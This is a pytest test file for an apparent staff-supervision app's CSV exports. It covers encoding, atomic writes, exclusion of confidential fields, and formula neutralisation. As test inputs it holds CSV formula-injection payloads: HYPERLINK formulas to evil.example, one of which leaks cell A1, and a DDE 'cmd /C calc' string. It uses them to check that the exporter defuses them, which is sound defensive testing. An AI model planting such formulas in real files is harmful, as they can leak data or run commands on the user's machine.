"""CSV exports: UTF-8 with a BOM for Excel, formulas neutralised, atomic writes, and the
staff list, actions and training matrix built from the services."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import errno
import os
import shutil
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from peerdesk.domain.enums import (
    CourseKind,
    RoleCategory,
    SessionMode,
    SessionType,
    StaffStatus,
    TrainingStatus,
)
from peerdesk.domain.supervision_record import SessionDetails
from peerdesk.services import csv_export
from peerdesk.services.actor import Actor
from peerdesk.services.audit_service import AuditLog
from peerdesk.services.bundle import Services, make_services
from peerdesk.services.csv_export import (
    Cell,
    CsvWriteError,
    ExportCancelled,
    actions_rows,
    export_file,
    neutralise,
    staff_list_rows,
    training_matrix_rows,
    write_csv,
    write_data,
)
from peerdesk.services.staff_import import StaffImportService, read_csv_file, suggest_mapping
from peerdesk.services.staff_service import StaffRecord
from peerdesk.services.training_views import CourseDetails, RecordDetails
from peerdesk.services.views import StaffQuery
from peerdesk.store.database import open_database
from tests.conftest import TODAY
from tests.ui.app_fixtures import add_person

SECRET = "CONFIDENTIAL-NOTE-7731"


def read_back(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


# -- writing --------------------------------------------------------------------------------


def test_written_as_utf8_with_bom_comma_separated_crlf(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    rows: list[Sequence[Cell]] = [
        ("Zoë Łukasiewicz", 37.5, dt.date(2024, 4, 3), None, True),
        ('Said "hello", then left\nearly', 0, dt.date(2026, 1, 1), "x", False),
    ]
    count = write_csv(path, ("Name", "Hours", "Start", "End", "Current"), rows)
    assert count == 2
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8 + b"Name,Hours,Start,End,Current\r\n")
    assert read_back(path) == [
        ["Name", "Hours", "Start", "End", "Current"],
        ["Zoë Łukasiewicz", "37.5", "2024-04-03", "", "Yes"],
        ['Said "hello", then left\nearly', "0", "2026-01-01", "x", "No"],
    ]
    assert leftovers(tmp_path) == ["out.csv"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example","Click")', '\'=HYPERLINK("http://evil.example","Click")'),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("-3.5", "'-3.5"),  # text that looks like a number is still text
        ("Anne-Marie O'Neill", "Anne-Marie O'Neill"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)  # fmt: skip
def test_cells_that_could_start_a_formula_are_neutralised(value: str, expected: str) -> None:
    assert neutralise(value) == expected


def test_numbers_from_numeric_columns_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "n.csv"
    write_csv(path, ("=Total", "n"), [(-3.5, -2), (1e-7, 10**12)])
    assert read_back(path) == [["'=Total", "n"], ["-3.5", "-2"], ["1e-07", "1000000000000"]]


def test_a_formula_in_a_name_reads_back_with_the_quote_prefix(
    services: Services, admin: Actor, tmp_path: Path
) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"Open me")'
    add_person(services, admin, name)
    add_person(services, admin, "@Kim +Hall", job_title="-1+1")
    path = tmp_path / "staff.csv"
    write_data(path, staff_list_rows(admin, services, StaffQuery()))
    rows = read_back(path)
    names = {row[0]: row for row in rows[1:]}
    assert "'" + name in names
    assert names["'@Kim +Hall"][3] == "'-1+1"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def failing_rows(after: int, error: OSError) -> Iterator[tuple[str]]:
    for i in range(after):
        yield (f"row {i}",)
    raise error


@pytest.mark.parametrize("where", ["while writing", "on fsync", "on replace"])
def test_a_full_disk_leaves_no_partial_file_and_the_old_one_intact(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    path = tmp_path / "staff.csv"
    path.write_bytes(b"the previous export\r\n")
    full = OSError(errno.ENOSPC, "No space left on device")
    rows: object = [("a",)] * 1000
    if where == "while writing":
        rows = failing_rows(500, full)
    elif where == "on fsync":

        def no_space(_fd: int) -> None:
            raise full

        monkeypatch.setattr(csv_export.os, "fsync", no_space)
    else:

        def no_space_to_rename(_src: object, _dst: object) -> None:
            raise full

        monkeypatch.setattr(csv_export.os, "replace", no_space_to_rename)
    with pytest.raises(CsvWriteError) as raised:
        write_csv(path, ("Name",), rows)  # type: ignore[arg-type]
    assert raised.value.errno == errno.ENOSPC
    assert raised.value.strerror == (
        "There is not enough space on the disk to save staff.csv. Free some space or choose "
        "another place; no file was written."
    )
    assert path.read_bytes() == b"the previous export\r\n"
    assert leftovers(tmp_path) == ["staff.csv"]


def test_an_export_is_recorded_in_the_audit_trail_or_not_left_behind(
    services: Services,
    admin: Actor,
    register: dict[str, StaffRecord],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    path = folder / "staff.csv"
    assert export_file(admin, services, path, staff_list_rows(admin, services, StaffQuery())) == 5
    entry = services.audit.entries(admin, action="export")[0]
    assert entry.subject == "Staff list (CSV)"
    assert entry.details == {
        "report": "staff-list",
        "format": "csv",
        "rows": 5,
        "file": "staff.csv",
    }

    def cannot_record(*_args: object, **_kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(services.audit, "record", cannot_record)
    other = folder / "actions.csv"
    with pytest.raises(OSError):
        export_file(admin, services, other, actions_rows(admin, services, TODAY, False))
    assert leftovers(folder) == ["staff.csv"]


def test_cancelling_leaves_no_file(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    calls = 0

    def is_cancelled() -> bool:
        nonlocal calls
        calls += 1
        return calls > 3

    progress: list[tuple[int, int]] = []
    with pytest.raises(ExportCancelled):
        write_csv(
            path,
            ("n",),
            [(i,) for i in range(10_000)],
            progress=lambda d, t: progress.append((d, t)),
            is_cancelled=is_cancelled,
        )
    assert progress[:2] == [(0, 10_000), (100, 10_000)]
    assert leftovers(tmp_path) == []


def test_a_missing_folder_is_a_plain_error(tmp_path: Path) -> None:
    with pytest.raises(CsvWriteError) as raised:
        write_csv(tmp_path / "gone" / "x.csv", ("a",), [("b",)])
    assert raised.value.strerror == (
        f"The folder {tmp_path / 'gone'} does not exist (any more). Choose another place."
    )


@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may write anywhere"
)
def test_a_read_only_folder_is_a_plain_error(tmp_path: Path) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(CsvWriteError, match="read-only or you may not write there"):
            write_csv(folder / "x.csv", ("a",), [("b",)])
    finally:
        folder.chmod(0o700)
    assert leftovers(folder) == []


# -- what is exported -----------------------------------------------------------------------


def test_the_staff_list_follows_the_query_and_holds_no_confidential_fields(
    services: Services, admin: Actor, register: dict[str, StaffRecord], tmp_path: Path
) -> None:
    zoe = register["zoe"]
    services.staff.update(
        admin,
        zoe.id,
        replace(
            zoe.details,
            pronouns="she/her",
            hours_per_week=22.5,
            reasonable_adjustments=f"Adjustment {SECRET}",
            wellbeing_notes=f"Wellbeing {SECRET}",
        ),
    )
    current = tmp_path / "current.csv"
    everyone = tmp_path / "all.csv"
    assert write_data(current, staff_list_rows(admin, services, StaffQuery())) == 5
    data = staff_list_rows(admin, services, StaffQuery(status=StaffStatus.ALL))
    assert data.describe(write_data(everyone, data)) == "6 people"
    rows = read_back(everyone)
    assert rows[0] == list(csv_export.STAFF_HEADERS)
    by_name = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_name["Zoë Łukasiewicz"] == {
        "Name": "Zoë Łukasiewicz",
        "Preferred name": "",
        "Pronouns": "she/her",
        "Job title": "Peer worker",
        "Role category": "Peer worker",
        "Team": "Outreach",
        "Employment type": "Permanent",
        "Hours per week": "22.5",
        "Start date": "2023-04-03",
        "End date": "",
        "Supervisor": "Amara Okafor",
        "Line manager": "",
        "Status": "Current",
        "Other roles": "",
    }
    assert by_name["Gwen Davies"]["Status"] == "Left"
    assert by_name["Gwen Davies"]["End date"] == "2025-03-31"
    assert "Gwen Davies" not in current.read_text(encoding="utf-8-sig")
    for path in (current, everyone):
        content = path.read_text(encoding="utf-8-sig")
        assert SECRET not in content
        assert "Moved to a new job" not in content  # leaving reasons stay in PeerDesk


def add_session(services: Services, admin: Actor, supervisee: int, supervisor: int) -> int:
    return services.supervision.create_session(
        admin,
        SessionDetails(
            supervisee_id=supervisee,
            supervisor_id=supervisor,
            session_date=TODAY - dt.timedelta(days=30),
            session_type=SessionType.LINE_MANAGEMENT,
            mode=SessionMode.IN_PERSON,
            agreed_record="We agreed the actions.",
            confidential_notes=f"Supervisor's own note {SECRET}",
        ),
    ).id


def test_actions_export_all_open_or_only_overdue_without_confidential_notes(
    services: Services, admin: Actor, register: dict[str, StaffRecord], tmp_path: Path
) -> None:
    amara, zoe = register["amara"].id, register["zoe"].id
    session = add_session(services, admin, zoe, amara)
    services.actions.add(admin, session, "=Write up the outreach log", zoe, TODAY - dt.timedelta(3))
    services.actions.add(admin, session, "Book the course", amara, TODAY + dt.timedelta(days=9))
    services.actions.add(admin, session, "Think about goals", None, None)

    everything = tmp_path / "open.csv"
    overdue = tmp_path / "overdue.csv"
    write_data(everything, actions_rows(admin, services, TODAY, overdue_only=False))
    data = actions_rows(admin, services, TODAY, overdue_only=True)
    assert data.describe(write_data(overdue, data)) == "1 action"
    rows = read_back(everything)
    assert rows == [
        list(csv_export.ACTION_HEADERS),
        [
            "Zoë Łukasiewicz",
            "Yes",
            "Amara Okafor",
            "'=Write up the outreach log",
            "Zoë Łukasiewicz",
            "2026-05-16",
            "2026-06-12",
            "3",
        ],
        ["Zoë Łukasiewicz", "Yes", "Amara Okafor", "Book the course", "Amara Okafor",
         "2026-05-16", "2026-06-24", ""],
        ["Zoë Łukasiewicz", "Yes", "Amara Okafor", "Think about goals", "", "2026-05-16", "", ""],
    ]  # fmt: skip
    assert read_back(overdue) == rows[:2]
    for path in (everything, overdue):
        assert SECRET not in path.read_text(encoding="utf-8-sig")


def test_the_training_matrix_has_a_column_per_mandatory_course(
    services: Services, admin: Actor, register: dict[str, StaffRecord], tmp_path: Path
) -> None:
    training = services.training
    data_course = training.add_course(
        admin, CourseDetails("Data protection", CourseKind.MANDATORY, 12)
    )
    training.add_course(
        admin,
        CourseDetails("First aid", CourseKind.MANDATORY, 36, applies_to=(RoleCategory.MANAGER,)),
    )
    training.add_course(admin, CourseDetails("IPS", CourseKind.ROLE_SPECIFIC, None))
    training.add_record(
        admin,
        register["zoe"].id,
        RecordDetails(
            course_id=data_course.id,
            status=TrainingStatus.COMPLETED,
            completed_on=dt.date(2026, 3, 2),
        ),
    )
    path = tmp_path / "matrix.csv"
    data = training_matrix_rows(admin, services, today=TODAY)
    assert data.describe(write_data(path, data)) == "5 people"
    rows = read_back(path)
    assert rows[0] == ["Name", "Team", "Role category", "Data protection", "First aid"]
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["Zoë Łukasiewicz"] == [
        "Zoë Łukasiewicz",
        "Outreach",
        "Peer worker",
        "Valid to 2 Mar 2027",
        "Not required",
    ]
    assert by_name["Amara Okafor"][3:] == ["Missing", "Missing"]
    assert "Gwen Davies" not in by_name  # leavers are not in the matrix
    hub = next(t for t in services.teams.list_teams(admin) if t.name == "Wellbeing Hub")
    only_hub = training_matrix_rows(admin, services, team_id=hub.id, today=TODAY)
    assert only_hub.total == 3


def test_an_exported_staff_list_imports_into_another_register(
    services: Services,
    admin: Actor,
    register: dict[str, StaffRecord],
    tmp_path: Path,
    template_database: Path,
) -> None:
    path = tmp_path / "staff.csv"
    write_data(path, staff_list_rows(admin, services, StaffQuery(status=StaffStatus.ALL)))
    other_path = tmp_path / "other" / "peerdesk.db"
    other_path.parent.mkdir()
    shutil.copyfile(template_database, other_path)
    other = open_database(other_path)
    try:
        importer = StaffImportService(other.sessions, AuditLog(other.sessions), today=lambda: TODAY)
        table = read_csv_file(path)
        preview = importer.preview(
            admin, table, suggest_mapping(table.headers), create_missing_teams=True
        )
        assert preview.ignored_columns == ("Status", "Other roles")  # the import reads neither
        assert preview.counts == (6, 0), [r.summary for r in preview.failing_rows]
        result = importer.import_rows(admin, preview)
        assert result.imported == 6
        copy = make_services(other.sessions, today=lambda: TODAY)
        again = tmp_path / "again.csv"
        write_data(again, staff_list_rows(admin, copy, StaffQuery(status=StaffStatus.ALL)))
        assert read_back(again) == read_back(path)
    finally:
        other.close()


def test_the_staff_list_names_other_roles_not_ended(
    services: Services, admin: Actor, register: dict[str, StaffRecord], tmp_path: Path
) -> None:
    from peerdesk.domain.enums import EmploymentType, RoleCategory
    from peerdesk.domain.staff_roles import RoleDetails

    zoe = register["zoe"].id
    hub = register["amara"].details.team_id
    for title, hours, end in (
        ("Volunteer", 4.0, None),
        ("Sessional worker", None, None),
        ("Old role", 2.0, dt.date(2025, 1, 31)),  # ended: not listed
    ):
        services.roles.add(
            admin,
            zoe,
            RoleDetails(
                title,
                RoleCategory.VOLUNTEER,
                EmploymentType.VOLUNTEER,
                dt.date(2024, 1, 8),
                team_id=hub,
                hours_per_week=hours,
                end_date=end,
            ),
        )
    path = tmp_path / "staff.csv"
    write_data(path, staff_list_rows(admin, services, StaffQuery()))
    rows = read_back(path)
    by_name = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_name["Zoë Łukasiewicz"]["Other roles"] == (
        "Volunteer (Wellbeing Hub, 4 h); Sessional worker (Wellbeing Hub, hours vary)"
    )
    assert by_name["Ben Carter"]["Other roles"] == ""
